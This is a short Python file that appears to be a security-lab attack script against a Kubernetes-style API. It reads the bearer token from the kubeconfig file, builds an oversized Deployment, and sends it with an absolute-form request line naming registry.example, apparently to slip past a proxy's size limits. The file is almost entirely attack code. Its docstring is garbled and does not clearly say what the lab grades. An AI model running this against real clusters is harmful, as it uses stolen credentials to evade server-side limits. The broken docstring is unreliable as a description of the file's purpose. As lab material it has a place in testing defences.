"""Tries to write past every limit with request lines that name the server, which proxies are sent.

Lab: 01
Earns: what the solution does, which goes on after it
May not touch: the record of its requests
"""

import http.client
import json
import os
from pathlib import Path


def attack(client):
    host, _, port = client.connection.server.rpartition("/")[2].partition(":")
    metadata = {"name": "large", "annotations": {"filler": "x" * 60_000}}
    pod = {"metadata": {"labels": {"app": "a"}}, "spec": {"containers": [{"name": "a", "image": "registry.example/a"}]}}
    spec = {"selector": {"matchLabels": {"app": "a"}}, "template": pod}
    body = json.dumps({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": metadata, "spec": spec})
    target = f"http://registry.example/apis/apps/v1/namespaces/{client.namespace}/deployments"
    config = json.loads(Path(os.environ["KUBECONFIG"]).read_text())
    token = config["users"][0]["user"].get("token", "")
    headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
    connection = http.client.HTTPConnection(host, int(port), timeout=10)
    connection.request("POST", target, body, headers)
    if connection.getresponse().status == 201:
        print("GOT", "a Deployment that is too large")
